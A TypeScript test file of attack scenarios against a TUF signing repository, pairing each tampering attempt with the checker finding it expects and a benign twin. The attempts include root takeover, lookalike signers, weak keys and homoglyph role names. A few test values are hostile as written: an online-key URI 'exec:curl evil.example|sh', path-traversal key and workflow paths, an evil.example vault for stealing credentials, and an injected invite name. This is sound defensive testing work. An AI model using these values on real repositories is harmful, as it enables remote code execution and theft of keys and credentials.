/** A pusher who wants to be a signer: of root, of a role, of the online roles, or in another's name. */
import {
  add,
  altered,
  drop,
  listed,
  newRoot,
  newTargets,
  onlineAt,
  owned,
  replace,
  roleIn,
} from '../support/key-stories.ts';
import { delegation, delegationIn, withRole, withRoleFile } from '../support/role-stories.ts';
import { alice, bob, carol, dave, type Loose, online, withCustom } from '../support/sound-repository.ts';
import { type AttackOf, attacksOf } from './attack.ts';
import { inviting, keyOf, mallory, once, rsaPem, sigstoreKey, sound } from './moves.ts';

const ancient = 'f'.repeat(64);
const zoe = withCustom(dave, owned('@zoe'));
const daveIsZoe = { ...dave, keyid: zoe.keyid, key: zoe.key };
/** A new signer of root and targets, agreed by all. */
const zoeJoins = (...roles: string[]) => newRoot((signed) => add(signed, zoe, ...roles), sound, [daveIsZoe]);
const zoeJoinsReleases = () => newTargets((delegations) => add(delegations, zoe, 'releases'), sound, [daveIsZoe]);

/** Carol's keyid is one of long ago, in root. */
const carolOfOld = { ...carol, keyid: ancient };
const imported = newRoot((signed) => replace(signed, carol, carolOfOld), sound, [carolOfOld]);

const otherOnline = { ...withCustom(dave, onlineAt('file2:second.pem')), name: 'second' };
const rotated = (key = otherOnline) => newRoot((signed) => replace(signed, online, key), sound, [key]);
const workflow = (ref: string) => `https://github.com/owner/repo/.github/workflows/online-sign.yml@${ref}`;
const actions = 'https://token.actions.githubusercontent.com';
const workflowKey = (ref: string) => sigstoreKey(workflow(ref), actions, onlineAt('sigstore:'));

const root: readonly AttackOf[] = [
  {
    id: 'own-root',
    story: 'makes a root with their key alone, and signs it',
    goal: 'own the repository',
    scene: () =>
      sound
        .knowing(mallory)
        .step('root', (signed) => {
          add(signed, mallory);
          signed.roles.root = { ...signed.roles.root, keyids: [mallory.keyid], threshold: 1 };
          drop(signed, carol);
        })
        .resign('root', [mallory]),
    found: 'incomplete',
    twin: ['a new signer joins, and the others agree', () => zoeJoins('root')],
  },
  {
    id: 'initial-again',
    story: 'deletes root.json and its history, and starts anew with a root of their own',
    goal: 'have it taken for an initial event, which nobody before has to sign',
    scene: () =>
      sound
        .file('metadata/root_history/2.root.json', null)
        .file('metadata/root_history/1.root.json', null)
        .knowing(mallory)
        .with('root', (signed) => {
          signed.version = 1;
          replace(signed, alice, mallory);
          drop(signed, bob);
          drop(signed, carol);
          signed.roles.root.threshold = 1;
        })
        .resign('root', [mallory]),
    found: 'error versions/unchanged root',
    twin: ['the first event of all', () => ({ base: null, head: initial() })],
  },
  {
    id: 'lower-root-threshold',
    story: 'lowers the threshold of root in a change of periods',
    goal: 'need one signer less next time',
    scene: () => newRoot(({ roles }) => (roles.root.threshold = 1)),
    found: 'warning roles/threshold-lowered root',
    twin: ['a threshold is raised', () => newRoot(({ roles }) => (roles.root.threshold = 3))],
  },
  {
    id: 'threshold-of-none',
    story: 'sets the threshold of targets to 0',
    goal: 'need no signature at all',
    scene: () => newRoot(({ roles }) => (roles.targets.threshold = 0)),
    found: 'error roles/threshold-zero root',
    twin: ['the threshold of targets is 2 of 2', () => agreed(newRoot(({ roles }) => (roles.targets.threshold = 2)))],
  },
  {
    id: 'unreachable-root',
    story: 'sets the threshold of root to more than there are signers',
    goal: 'lock everybody out for good',
    scene: () => newRoot(({ roles }) => (roles.root.threshold = 4)),
    found: 'error roles/threshold-unreachable root',
    twin: ['all of them are needed', () => newRoot(({ roles }) => (roles.root.threshold = 3))],
  },
  {
    id: 'unreachable-behind-an-invite',
    story: 'sets the threshold of root to 4 and opens an invite to targets',
    goal: 'have it pass as waiting for somebody',
    scene: () =>
      inviting(
        { '@zoe': ['targets'] },
        newRoot(({ roles }) => (roles.root.threshold = 4)),
      ),
    found: 'error roles/threshold-unreachable root',
    twin: [
      'and opens an invite to root',
      () =>
        inviting(
          { '@zoe': ['root'] },
          newRoot(({ roles }) => (roles.root.threshold = 4)),
        ),
    ],
  },
  {
    id: 'threshold-of-one-key',
    story: 'lists the key of alice twice under two keyids and raises the threshold by one',
    goal: 'make one person count as two',
    scene: () =>
      newRoot(
        (signed) => {
          add(signed, secondAlice, 'root');
          signed.roles.root.threshold = 3;
        },
        sound,
        [secondAlice],
      ),
    found: 'error keys/same-material root',
    twin: ['another person joins, and the threshold is raised', () => zoeJoinsRoot(3)],
  },
  {
    id: 'two-keys-of-one',
    story: 'has alice accept a second invitation with a second key',
    goal: 'make one person count as two',
    scene: () => newRoot((signed) => add(signed, listed(withCustom(dave, owned('@tuf-test-alice')).key), 'root')),
    found: 'error keys/same-owner root',
    twin: ['alice gets a key for a role where she has none', () => aliceSignsReleases()],
  },
  {
    id: 'keyid-twice',
    story: 'repeats a keyid in the list of root',
    goal: 'have a client count its signature twice',
    scene: () => newRoot(({ roles }) => roles.root.keyids.push(alice.keyid)),
    found: 'error roles/keyid-twice root',
    twin: ['the order of the keyids changes', () => newRoot(({ roles }) => roles.root.keyids.reverse())],
  },
  {
    id: 'key-to-come',
    story: 'lists a keyid whose key is not there yet',
    goal: 'bring the key later, when nobody looks at the list',
    scene: () => newRoot(({ roles }) => roles.root.keyids.push(mallory.keyid)),
    found: 'error roles/key-missing root',
    twin: ['key and keyid come together', () => zoeJoins('root')],
  },
  {
    id: 'sleeping-key',
    story: 'puts a key on the key list that no role uses',
    goal: 'need one line only when the time comes',
    scene: () => newRoot((signed) => add(signed, mallory)),
    found: 'error roles/unused-key root',
    twin: ['the key is used', () => zoeJoins('targets')],
  },
  {
    id: 'online-key-in-root',
    story: 'lists the online key among the signers of root',
    goal: 'reach root with a key that lies in the cloud',
    scene: () => newRoot(({ roles }) => roles.root.keyids.push(online.keyid)),
    found: 'error roles/root-online-key root',
    twin: ['the online key is replaced by another', () => rotated()],
  },
  {
    id: 'fifth-role',
    story: 'adds a role "mirrors" to root',
    goal: 'have a role that no client and no reviewer looks at',
    scene: () =>
      newRoot((signed) => {
        signed.roles.mirrors = { keyids: [alice.keyid], threshold: 1 };
      }),
    found: 'error roles/top-level-extra root',
    twin: ['targets delegates to "mirrors"', () => withRole('mirrors')],
  },
  {
    id: 'lost-role',
    story: 'takes the role timestamp out of root',
    goal: 'stop every client',
    scene: () => newRoot(({ roles }) => delete roles.timestamp),
    found: 'error roles/top-level-missing root',
    twin: [
      'the members of roles stand in another order',
      () =>
        newRoot((signed) => {
          signed.roles = Object.fromEntries(Object.entries(signed.roles).reverse());
        }),
    ],
  },
  {
    id: 'inconsistent-snapshot',
    story: 'turns consistent_snapshot off',
    goal: 'have clients mix files of two versions',
    scene: () =>
      newRoot((signed) => {
        signed.consistent_snapshot = false;
      }),
    found: 'error roles/consistent-snapshot root',
    twin: ['an unknown member comes', () => newRoot((signed) => (signed['x-note'] = false))],
  },
];

const secondAlice = { ...withCustom(alice, owned('@tuf-test-zoe')), name: 'alice again' };
const zoeJoinsRoot = (threshold: number) =>
  newRoot(
    (signed) => {
      add(signed, zoe, 'root');
      signed.roles.root.threshold = threshold;
    },
    sound,
    [daveIsZoe],
  );
const aliceSignsReleases = () => newTargets((delegations) => add(delegations, alice, 'releases'));
/** Both signers of targets have signed. */
const agreed = (draft: typeof sound) => draft.resign('targets', [alice, bob]);
/** The sound repository as it was before it was merged and signed online. */
const initial = () =>
  sound
    .file('metadata/root_history/2.root.json', null)
    .file('metadata/snapshot.json', null)
    .file('metadata/timestamp.json', null)
    .with('root', (signed) => {
      signed.version = 1;
    })
    .resign('root');

const names: readonly AttackOf[] = [
  {
    id: 'swapped-material',
    story: "puts their key behind the keyid of alice's key",
    goal: 'sign as alice, whom everybody has approved',
    scene: () =>
      newRoot(
        (signed) => {
          signed.keys[alice.keyid] = { ...alice.key, keyval: dave.key.keyval };
        },
        sound,
        [{ ...dave, keyid: alice.keyid }],
      ),
    found: 'error keys/changed root',
    twin: ['alice replaces her key by another', () => newRoot((s) => replace(s, alice, newAlice), sound, [newAlice])],
  },
  {
    id: 'own-key-of-alice',
    story: 'lists a key of their own as that of alice in a role that she does not sign',
    goal: 'sign as alice',
    scene: () => newTargets((delegations) => add(delegations, newAlice, 'releases'), sound, [newAlice]),
    found: 'warning keys/owner-new-key targets',
    twin: ["alice's own key signs that role", () => aliceSignsReleases()],
  },
  {
    id: 'lookalike-signer',
    story: 'lists a key of @tuf-test-a1ice',
    goal: 'be taken for alice',
    scene: () =>
      newTargets((delegations) => add(delegations, listed(withCustom(dave, owned('@tuf-test-a1ice')).key), 'releases')),
    found: 'warning keys/lookalike-owner',
    twin: ['a new person with a name of her own', () => zoeJoinsReleases()],
  },
  {
    id: 'lookalike-invite',
    story: 'invites @tuf-test-b0b',
    goal: 'be taken for bob',
    scene: () => inviting({ '@tuf-test-b0b': ['releases'] }),
    found: 'warning keys/lookalike-owner',
    twin: ['a new person with a name of his own is invited', () => inviting({ '@tuf-test-boris': ['releases'] })],
  },
  {
    id: 'renamed-signer',
    story: "writes their name on bob's key",
    goal: 'get the credit, or bob the blame',
    scene: () => newRoot((signed) => replace(signed, bob, bobAsMallory), sound, [bobAsMallory]),
    found: 'warning keys/owner-changed root',
    twin: ['bob replaces his key', () => newRoot((signed) => replace(signed, bob, newBob), sound, [newBob])],
  },
  {
    id: 'one-key-two-people',
    story: "lists bob's key under another name for another role",
    goal: 'make one person look like two who watch each other',
    scene: () => newTargets((delegations) => replace(delegations, bob, bobAsMallory), sound, [bobAsMallory]),
    found: 'warning keys/owner-changed targets',
    twin: ['another person takes that place', () => newTargets((d) => replace(d, bob, daveIsZoe), sound, [daveIsZoe])],
  },
  {
    id: 'one-new-key-two-people',
    story: 'lists one new key as that of two people in two roles',
    goal: 'be two of the people who watch each other',
    scene: () =>
      newTargets((delegations) => add(delegations, withCustom(dave, owned('@yara')), 'releases'), zoeJoins('targets'), [
        daveIsZoe,
      ]),
    found: 'warning keys/two-owners targets',
    twin: [
      'one person joins two roles',
      () => newTargets((d) => add(d, zoe, 'releases'), zoeJoins('targets'), [daveIsZoe]),
    ],
  },
  {
    id: 'online-key-as-person',
    story: "lists the online key as a person's for a role",
    goal: 'have the machine sign where a person should',
    scene: () => newTargets((delegations) => add(delegations, withCustom(online, owned('@mallory')), 'releases')),
    found: 'error keys/online-and-owner targets',
    twin: ['a person joins', () => zoeJoinsReleases()],
  },
  {
    id: 'person-and-machine',
    story: 'lists a key with an owner and an online URI',
    goal: 'pass for either',
    scene: () => newTargets((d) => add(d, listed({ ...mallory.key, ...onlineAt('file2:x.pem') }), 'releases')),
    found: 'error keys/owner-and-uri targets',
    twin: ['the owner alone', () => zoeJoinsReleases()],
  },
  {
    id: 'nobodys-key',
    story: 'lists a key without an owner',
    goal: 'sign without a name',
    scene: () => newTargets((delegations) => add(delegations, listed(withCustom(dave, {}).key), 'releases')),
    found: 'error keys/owner-missing targets',
    twin: ['with an owner', () => zoeJoinsReleases()],
  },
  {
    id: 'odd-owner',
    story: 'lists a key of "@tuf-test-alice ", with a blank',
    goal: 'read like alice',
    scene: () =>
      newTargets((delegations) => add(delegations, listed({ ...dave.key, ...owned('@tuf-test-alice ') }), 'releases')),
    found: 'error keys/owner-malformed targets',
    twin: ['a name with digits and dashes', () => newcomerTo('releases', '@0-zoe-1')],
  },
];

const newAlice = { ...withCustom(dave, owned('@tuf-test-alice')), name: 'new alice' };
const newBob = { ...withCustom(dave, owned('@tuf-test-bob')), name: 'new bob' };
const bobAsMallory = { ...withCustom(bob, owned('@mallory')), name: 'bob as mallory' };
const newcomerTo = (role: string, owner: string) => {
  const key = { ...withCustom(dave, owned(owner)), name: owner };
  return newTargets((delegations) => add(delegations, key, role), sound, [key]);
};

const keyids: readonly AttackOf[] = [
  {
    id: 'chosen-keyid',
    story: 'files a key under a keyid of their choice',
    goal: 'have two readers mean different keys',
    scene: () => newTargets((delegations) => add(delegations, listed(mallory.key, ancient), 'releases')),
    found: 'error keys/keyid targets',
    twin: ['under its hash', () => zoeJoinsReleases()],
  },
  {
    id: 'chosen-root-keyid',
    story: 'files a key under a keyid of their choice in root',
    goal: 'have two readers mean different keys',
    scene: () => newRoot((signed) => add(signed, listed(mallory.key, ancient), 'targets')),
    found: 'error keys/keyid root',
    twin: ['under its hash', () => zoeJoins('targets')],
  },
  {
    id: 'keyid-as-text',
    story: 'files a key under the keyid "approved by alice" where keyids are not compared',
    goal: 'mislead a reader of the list',
    scene: () => ({
      head: newTargets((delegations) => add(delegations, listed(mallory.key, 'approved by alice'), 'releases')),
      noVerifyKeyid: true,
    }),
    found: 'error keys/keyid-form targets',
    twin: [
      'an old keyid stays where keyids are not compared',
      () => ({ base: imported, head: newRoot(() => {}, imported, [carolOfOld]), noVerifyKeyid: true }),
    ],
  },
  {
    id: 'keyid-of-carol',
    story: 'uses the historic keyid of carol for a key of their own, where keyids are not compared',
    goal: 'be approved where carol is known',
    scene: () => ({
      base: imported,
      head: newTargets((delegations) => add(delegations, listed(mallory.key, ancient), 'releases'), imported),
      noVerifyKeyid: true,
    }),
    found: 'error keys/keyid-reused targets',
    twin: [
      'carol signs another role under her historic keyid',
      () => ({
        base: imported,
        head: newTargets((delegations) => replace(delegations, carol, carolOfOld), imported, [carolOfOld]),
        noVerifyKeyid: true,
      }),
    ],
  },
  {
    id: 'unknown-keytype',
    story: 'lists a key of an unknown type',
    goal: 'have some clients refuse the file',
    scene: () => newTargets((delegations) => add(delegations, keyOf('gpg', 'gpg', 'x'), 'releases')),
    found: 'error keys/unknown-keytype targets',
    twin: [
      'a key of a known type',
      () => newTargets((d) => add(d, keyOf('rsa', 'rsassa-pss-sha256', strong), 'releases')),
    ],
  },
  {
    id: 'unknown-scheme',
    story: 'lists a key whose scheme is "none"',
    goal: 'have somebody take everything for signed',
    scene: () => newTargets((delegations) => add(delegations, altered(mallory, { scheme: 'none' }), 'releases')),
    found: 'error keys/unknown-scheme targets',
    twin: ['the scheme of the key', () => zoeJoinsReleases()],
  },
  {
    id: 'key-type-confusion',
    story: 'lists an ecdsa key as an RSA key',
    goal: 'have two clients verify two things',
    scene: () => newTargets((delegations) => add(delegations, altered(mallory, { keytype: 'rsa' }), 'releases')),
    found: 'error keys/scheme-mismatch targets',
    twin: ['an RSA key', () => newTargets((d) => add(d, keyOf('rsa', 'rsassa-pss-sha256', strong), 'releases'))],
  },
  {
    id: 'unreadable-key',
    story: 'lists a key that is no key',
    goal: 'have clients fail when they come to it',
    scene: () =>
      newTargets((delegations) => add(delegations, altered(mallory, { keyval: { public: 'AAAA' } }), 'releases')),
    found: 'error keys/unreadable targets',
    twin: ['a key', () => zoeJoinsReleases()],
  },
  {
    id: 'small-order-key',
    story: 'lists an ed25519 key of small order',
    goal: 'sign anything without a private key',
    scene: () =>
      newTargets((delegations) => add(delegations, keyOf('ed25519', 'ed25519', `01${'0'.repeat(62)}`), 'releases')),
    found: 'error keys/weak targets',
    twin: [
      'an ed25519 key',
      // The public key of RFC 8032 7.1, test 1.
      () => newTargets((d) => add(d, keyOf('ed25519', 'ed25519', rfc8032), 'releases')),
    ],
  },
  {
    id: 'short-rsa-key',
    story: 'lists an RSA key of 1024 bits',
    goal: 'find the private key in some months',
    scene: () => newTargets((d) => add(d, keyOf('rsa', 'rsassa-pss-sha256', rsaPem(1024)), 'releases')),
    found: 'error keys/weak targets',
    twin: ['of 2048 bits', () => newTargets((d) => add(d, keyOf('rsa', 'rsassa-pss-sha256', strong), 'releases'))],
  },
  {
    id: 'hidden-keyval-member',
    story: "adds a member to the key values of alice's key and keeps its keyid",
    goal: 'have clients that hash the key refuse it',
    scene: () =>
      newRoot(({ keys }) => {
        keys[alice.keyid].keyval.private = '';
      }),
    found: 'error keys/changed root',
    twin: ['nothing of the key changes', () => newRoot(() => {})],
  },
];

const strong = rsaPem(2048);
const rfc8032 = 'd75a980182b10ab7d54bfed3c964073a0ee172f3daa62325af021a68f707511a';

const machines: readonly AttackOf[] = [
  {
    id: 'program-as-signer',
    story: 'gives the online key the URI exec:curl evil.example|sh',
    goal: 'have online-sign run their program',
    scene: () => newRoot((s) => replace(s, online, altered(online, onlineAt('exec:curl evil.example|sh')))),
    found: 'error keys/uri-malformed root',
    twin: ['another key file', () => rotated()],
  },
  {
    id: 'signer-out-of-folder',
    story: 'gives a new online key the URI file2:../../home/runner/key.pem',
    goal: 'have online-sign read a file that it should not',
    scene: () => rotated({ ...otherOnline, ...withCustom(dave, onlineAt('file2:../../home/runner/key.pem')) }),
    found: 'warning keys/uri-elsewhere root',
    twin: ['a file among the keys', () => rotated()],
  },
  {
    id: 'vault-of-mallory',
    story: 'gives a new online key a vault at evil.example',
    goal: "receive the workflow's credentials",
    scene: () => rotated({ ...otherOnline, ...withCustom(dave, onlineAt('azurekms://evil.example/keys/k/1')) }),
    found: 'warning keys/uri-elsewhere root',
    twin: [
      'a vault at Azure',
      () => rotated({ ...otherOnline, ...withCustom(dave, onlineAt('azurekms://v.vault.azure.net/keys/k/1')) }),
    ],
  },
  {
    id: 'signer-that-cannot',
    story: 'gives the ecdsa online key the URI hv:key/1, which signs ed25519 alone',
    goal: 'stop all online signatures',
    scene: () => rotated({ ...otherOnline, ...withCustom(dave, onlineAt('hv:key/1')) }),
    found: 'error keys/uri-mismatch root',
    twin: [
      'a key in AWS KMS, which can',
      () => rotated({ ...otherOnline, ...withCustom(dave, onlineAt('awskms:alias/tuf')) }),
    ],
  },
  {
    id: 'device-as-online-key',
    story: 'makes a hardware token the online key',
    goal: 'have the repository expire while its holder is away',
    scene: () => rotated({ ...otherOnline, ...withCustom(dave, onlineAt('hsm:2')) }),
    found: 'warning keys/uri-of-person root',
    twin: ['a key in Google Cloud', () => rotated({ ...otherOnline, ...withCustom(dave, onlineAt(gcp)) })],
  },
  {
    id: 'workflow-of-the-event',
    story: 'makes the online-sign workflow on their branch the online key',
    goal: 'sign timestamps from sign/evil',
    scene: () => newRoot((signed) => replace(signed, online, workflowKey('refs/heads/sign/evil'))),
    found: 'error keys/workflow-of-event root',
    twin: ['the workflow on main', () => newRoot((s) => replace(s, online, workflowKey('refs/heads/main')))],
  },
  {
    id: 'workflow-as-person',
    story: 'lists a workflow as the key of @mallory',
    goal: 'sign as a person whenever CI runs',
    scene: () =>
      newTargets((d) => add(d, sigstoreKey(workflow('refs/heads/main'), actions, owned('@mallory')), 'releases')),
    found: 'error keys/workflow-as-person targets',
    twin: ['a person with a Sigstore login', () => newTargets((d) => add(d, zoeLogsIn, 'releases'))],
  },
  {
    id: 'own-timestamp-key',
    story: 'adds their key to the role timestamp',
    goal: 'sign timestamps beside the online key',
    scene: () =>
      newRoot((signed) => {
        add(signed, { ...otherOnline }, 'timestamp');
      }),
    found: 'error roles/online-roles-differ root',
    twin: ['the key of both roles is replaced', () => rotated()],
  },
  {
    id: 'spare-online-key',
    story: 'adds an online key of their own to timestamp and snapshot',
    goal: 'sign both beside the machine, long after everybody has forgotten',
    scene: () => newRoot((signed) => add(signed, otherOnline, 'timestamp', 'snapshot')),
    found: 'warning roles/several-online-keys root',
    twin: [
      'both keys are needed from now on',
      () =>
        newRoot((signed) => {
          add(signed, otherOnline, 'timestamp', 'snapshot');
          signed.roles.timestamp.threshold = 2;
          signed.roles.snapshot.threshold = 2;
        }),
    ],
  },
  {
    id: 'person-signs-timestamp',
    story: 'makes their personal key the key of timestamp and snapshot',
    goal: 'own what clients see as the newest',
    scene: () => newRoot((signed) => replace(signed, online, mallory), sound, [mallory]),
    found: 'error roles/online-role-person root',
    twin: ['another online key', () => rotated()],
  },
  {
    id: 'machine-among-people',
    story: 'adds the online key to the people who sign releases',
    goal: 'have a threshold of two met by one person and a robot',
    scene: () => newTargets((delegations) => add(delegations, online, 'releases')),
    found: 'error roles/online-key-not-alone targets',
    twin: [
      'releases gets the online key alone',
      () =>
        newTargets((delegations) => {
          drop(delegations, bob);
          drop(delegations, carol);
          add(delegations, online, 'releases');
        }),
    ],
  },
];

const gcp = 'gcpkms:projects/p/locations/global/keyRings/r/cryptoKeys/k/cryptoKeyVersions/1';
const zoeLogsIn = sigstoreKey('zoe@example.com', 'https://github.com/login/oauth', owned('@zoe'));

const roles: readonly AttackOf[] = [
  {
    id: 'all-signers-replaced',
    story: 'replaces everybody who signs releases by themselves',
    goal: 'own the role',
    scene: () =>
      newTargets(
        (delegations) => {
          replace(delegations, bob, mallory);
          drop(delegations, carol);
        },
        sound,
        [mallory],
      ),
    found: 'warning roles/all-replaced targets',
    twin: ['one of two is replaced', () => newTargets((d) => replace(d, bob, daveIsZoe), sound, [daveIsZoe])],
  },
  {
    id: 'nobody-left',
    story: 'takes all keys off releases',
    goal: 'have a role that nobody can sign any more',
    scene: () =>
      newTargets((delegations) => {
        drop(delegations, bob);
        drop(delegations, carol);
      }),
    found: 'error roles/no-keys targets',
    twin: [
      'and invites another signer',
      () =>
        inviting(
          { '@zoe': ['releases'] },
          newTargets((delegations) => {
            drop(delegations, bob);
            drop(delegations, carol);
          }),
        ),
    ],
  },
  {
    id: 'stolen-name',
    story: 'puts another delegation of the name releases before the one there is',
    goal: 'have some clients ask theirs',
    scene: () =>
      newTargets((delegations) => {
        add(delegations, mallory);
        delegations.roles.unshift(delegation('releases', { keyids: [mallory.keyid] }));
      }),
    found: 'error delegations/repeated-name targets',
    twin: ['a delegation of another name', () => withRole('tools')],
  },
  {
    id: 'second-timestamp',
    story: 'has targets delegate to a role named timestamp',
    goal: 'give another answer to who signs timestamps',
    scene: () => newTargets(({ roles }) => roles.push(delegation('timestamp'))),
    found: 'error delegations/top-level-name targets',
    twin: ['to one named timestamps', () => withRole('timestamps')],
  },
  {
    id: 'quiet-delegation-edit',
    story: 'adds a signer to releases without a new version of releases',
    goal: 'have the change pass where only versions are looked at',
    scene: () => newTargets((delegations) => add(delegations, zoe, 'releases')),
    found: 'note delegations/signers-changed targets',
    twin: ['with a new version of it', () => zoeJoinsReleases().step('releases').resign('releases')],
  },
  {
    id: 'cyrillic-role',
    story: 'delegates to rеleases, with a Cyrillic е',
    goal: 'be taken for releases',
    scene: () => withRole('r\u0435leases'),
    found: 'error form/role-name targets',
    twin: ['to a role with a Japanese name', () => withRole('リリース')],
  },
  {
    id: 'unseen-role',
    story: 'delegates to releases with a zero-width space in it',
    goal: 'be taken for releases',
    scene: () => withRole('re\u200bleases'),
    found: 'error form/role-name targets',
    twin: ['to releases2', () => withRole('releases2')],
  },
  {
    id: 'two-accents-role',
    story: 'delegates to café, written with an accent of its own',
    goal: 'be one file on a Mac and two on Linux',
    scene: () => withRole('cafe\u0301'),
    found: 'error form/role-name targets',
    twin: ['written as one letter', () => withRole('caf\u00e9')],
  },
  {
    id: 'capital-role',
    story: 'delegates to Releases',
    goal: 'be the same file on a Mac, and another on Linux',
    scene: () => withRole('Releases'),
    found: 'error form/role-name-case',
    twin: ['to a role of another name', () => withRole('prereleases')],
  },
  {
    id: 'role-that-reads-alike',
    story: 'delegates to re1eases, with a digit',
    goal: 'be signed for releases',
    scene: () => withRole('re1eases'),
    found: 'warning form/role-name-lookalike',
    twin: ['to releases2', () => withRole('releases2')],
  },
  {
    id: 'deep-name-taken',
    story: 'has targets delegate a name to themselves that releases delegates already, in an old repository',
    goal: 'have clients ask their keys for it, because targets comes first',
    scene: () => ({
      base: deepened(),
      head: newTargets(
        (delegations) => {
          add(delegations, mallory);
          delegations.roles.push(ownRole('deep'));
        },
        deepened(),
        [mallory],
      ),
    }),
    found: 'error delegations/name-taken releases',
    twin: [
      'targets changes, and the deeper delegation stays',
      () => ({ base: deepened(), head: newTargets(() => {}, deepened()) }),
    ],
  },
  {
    id: 'deeper-delegation',
    story: 'has releases delegate to a role of their own',
    goal: 'sign below a role whose signers nobody reviews',
    scene: () =>
      withRoleFile(
        sound
          .step('releases', (signed) => {
            signed.delegations = { keys: { [mallory.keyid]: mallory.key }, roles: [ownRole('deep')] };
          })
          .resign('releases'),
        'deep',
        {},
        [mallory],
      ),
    found: 'error delegations/too-deep releases',
    twin: ['targets delegates', () => withRole('deep')],
  },
];

/** A repository of before tuf-on-ci, where releases delegates to deep. */
const deepened = once(() =>
  withRoleFile(
    sound
      .step('releases', (signed) => {
        signed.delegations = {
          keys: { [carol.keyid]: carol.key },
          roles: [delegation('deep', { keyids: [carol.keyid] })],
        };
      })
      .resign('releases'),
    'deep',
  ).online(),
);
const ownRole = (name: string): Loose => delegation(name, { keyids: [mallory.keyid], paths: [`${name}/*`] });

const invites: readonly AttackOf[] = [
  {
    id: 'invite-to-timestamp',
    story: 'invites themselves to timestamp',
    goal: 'have the online key replaced by theirs',
    scene: () => inviting({ '@mallory': ['timestamp'] }),
    found: 'error event-state/online-role',
    twin: ['somebody is invited to targets', () => inviting({ '@zoe': ['targets'] })],
  },
  {
    id: 'invite-beside-online-key',
    story: 'invites themselves to a role with an online key',
    goal: 'sign beside the machine',
    scene: () => inviting({ '@mallory': ['releases'] }, onlineReleases()),
    found: 'error event-state/online-key',
    twin: ['to a role of people', () => inviting({ '@zoe': ['releases'] })],
  },
  {
    id: 'invite-as-markdown',
    story: 'invites "@zoe\\n- @tuf-test-alice has signed"',
    goal: 'write a line of the status comment',
    scene: () => inviting({ '@zoe\n- @tuf-test-alice has signed': ['releases'] }),
    found: 'error event-state/user-name',
    twin: ['a person', () => inviting({ '@zoe': ['releases'] })],
  },
  {
    id: 'invite-to-a-path',
    story: 'invites themselves to ../../.github/workflows/x',
    goal: "have the signer's tool make that file",
    scene: () => inviting({ '@mallory': ['../../.github/workflows/x'] }),
    found: 'error event-state/role-name',
    twin: ['to a role to come', () => inviting({ '@zoe': ['tools'] })],
  },
  {
    id: 'unreadable-invites',
    story: 'writes invites that cannot be read',
    goal: 'have them overlooked, or the tool crash',
    scene: () => sound.file('metadata/.signing-event-state', '{"invites": {"@zoe": "root"}}'),
    found: 'error event-state/form',
    twin: ['the same, readable', () => inviting({ '@zoe': ['root'] })],
  },
  {
    id: 'invite-of-a-signer',
    story: 'invites alice, who has a key, to root',
    goal: 'have her key replaced by one that is not hers',
    scene: () => inviting({ '@tuf-test-alice': ['root'] }),
    found: 'warning event-state/already-signer',
    twin: ['carol, to a role that she does not sign', () => inviting({ '@tuf-test-carol': ['targets'] })],
  },
  {
    id: 'invite-hides-wrong-signature',
    story: 'opens an invite to releases beside a change that nobody signed',
    goal: 'have the wrong signature taken for one that waits',
    scene: () => inviting({ '@zoe': ['releases'] }, sound.step('releases')),
    found: 'error signatures/wrong releases',
    twin: [
      'beside a change that is signed',
      () => inviting({ '@zoe': ['releases'] }, sound.step('releases').resign('releases')),
    ],
  },
  {
    id: 'invite-to-nothing',
    story: 'leaves an empty invite',
    goal: 'have the event wait for nobody',
    scene: () => inviting({ '@zoe': [] }, sound.step('targets').resign('targets')),
    found: 'warning event-state/empty',
    twin: ['there is no file', () => sound.step('targets').resign('targets')],
  },
];

/** releases is signed by the online key. */
const onlineReleases = () =>
  newTargets((delegations) => {
    drop(delegations, bob);
    drop(delegations, carol);
    add(delegations, online, 'releases');
    delegationIn(delegations).threshold = roleIn(delegations, 'releases').keyids.length;
  });

export const pusherTakeover = attacksOf('pusher', [...root, ...names, ...keyids, ...machines, ...roles, ...invites]);
